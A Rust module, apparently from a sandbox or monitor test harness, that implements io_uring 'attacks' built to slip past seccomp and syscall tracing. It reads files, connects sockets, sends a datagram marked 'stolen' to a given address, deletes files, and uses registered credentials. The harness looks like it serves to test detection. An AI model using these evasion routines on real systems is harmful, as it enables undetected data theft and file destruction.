//! Attacks through io_uring, which neither seccomp nor a tracepoint of system calls sees: `MODE` is `inline`, `async`
//! (a worker thread of the kernel) or `sqpoll` (a polling thread of the kernel).

use std::ffi::CString;
use std::io;
use std::net::SocketAddr;
use std::os::fd::{AsRawFd, OwnedFd};

use serde_json::{Value, json};

use super::{Act, argument, networks, number, paths};
use crate::sys::ring::{ASYNC, Message, Ring, SQPOLL, Submission, address};

pub(super) const ACTS: &[(&str, Act)] = &[
    ("ring_read", ring_read),
    ("ring_connect", ring_connect),
    ("ring_send", ring_send),
    ("ring_socket", ring_socket),
    ("ring_unlink", ring_unlink),
    ("ring_credentials", ring_credentials),
    ("ring_setup", |a| ring(argument(a, 0)?).map(|_| Value::Null)),
];

const SENDMSG: u8 = 9;
const CONNECT: u8 = 16;
const UNLINKAT: u8 = 36;
const SOCKET: u8 = 45;

/// A ring in this mode, and the flags of its submissions.
fn ring(mode: &str) -> io::Result<(Ring, u8)> {
    let (setup, flags) = match mode {
        "inline" => (0, 0),
        "async" => (0, ASYNC),
        "sqpoll" => (SQPOLL, 0),
        other => return Err(io::Error::other(format!("no mode `{other}`"))),
    };
    Ok((Ring::new(setup)?, flags))
}

fn perform(mode: &str, submission: Submission) -> io::Result<i32> {
    let (mut ring, flags) = ring(mode)?;
    Ok(ring.perform(&Submission { flags, ..submission })?)
}

/// `MODE PATH`: opens and tells the text.
fn ring_read(arguments: &[&str]) -> io::Result<Value> {
    let path = CString::new(argument(arguments, 1)?)?;
    let place = address(path.as_bytes_with_nul());
    let (mut ring, flags) = ring(argument(arguments, 0)?)?;
    let opening = Submission { flags, descriptor: libc::AT_FDCWD, address: place, ..Submission::default() };
    paths::text_of(ring.open(&opening)?)
}

/// `MODE ADDRESS`: connects a stream socket.
fn ring_connect(arguments: &[&str]) -> io::Result<Value> {
    let (socket, bytes) = towards(argument(arguments, 1)?, libc::SOCK_STREAM)?;
    let connecting = Submission {
        opcode: CONNECT,
        descriptor: socket.as_raw_fd(),
        address: address(&bytes),
        offset: bytes.len() as u64,
        ..Submission::default()
    };
    Ok(json!(perform(argument(arguments, 0)?, connecting)?))
}

/// `MODE ADDRESS`: sends a datagram.
fn ring_send(arguments: &[&str]) -> io::Result<Value> {
    let (socket, bytes) = towards(argument(arguments, 1)?, libc::SOCK_DGRAM)?;
    let message = Message::new(b"stolen", &bytes);
    let sending = Submission {
        opcode: SENDMSG,
        descriptor: socket.as_raw_fd(),
        address: message.address(),
        length: 1,
        ..Submission::default()
    };
    Ok(json!(perform(argument(arguments, 0)?, sending)?))
}

fn towards(text: &str, kind: i32) -> io::Result<(OwnedFd, Vec<u8>)> {
    let to: SocketAddr = text.parse().map_err(io::Error::other)?;
    Ok((networks::socket(to, kind, 0)?, networks::raw(to, None)))
}

/// `MODE FAMILY TYPE PROTOCOL`: makes a socket (Linux 5.19).
fn ring_socket(arguments: &[&str]) -> io::Result<Value> {
    let word = |at| number(arguments, at);
    let making = Submission {
        opcode: SOCKET,
        descriptor: i32::try_from(word(1)?).map_err(io::Error::other)?,
        offset: word(2)?,
        length: u32::try_from(word(3)?).map_err(io::Error::other)?,
        ..Submission::default()
    };
    perform(argument(arguments, 0)?, making).map(|_| Value::Null)
}

/// `MODE PATH`: removes a file.
fn ring_unlink(arguments: &[&str]) -> io::Result<Value> {
    let path = CString::new(argument(arguments, 1)?)?;
    let place = address(path.as_bytes_with_nul());
    let removing =
        Submission { opcode: UNLINKAT, descriptor: libc::AT_FDCWD, address: place, ..Submission::default() };
    perform(argument(arguments, 0)?, removing).map(|_| Value::Null)
}

/// An operation under registered credentials (`IORING_REGISTER_PERSONALITY`).
fn ring_credentials(_: &[&str]) -> io::Result<Value> {
    let mut ring = Ring::new(0)?;
    let personality = ring.register_credentials()?;
    // Opcode 0 does nothing (`IORING_OP_NOP`).
    Ok(json!(ring.perform(&Submission { personality, ..Submission::default() })?))
}
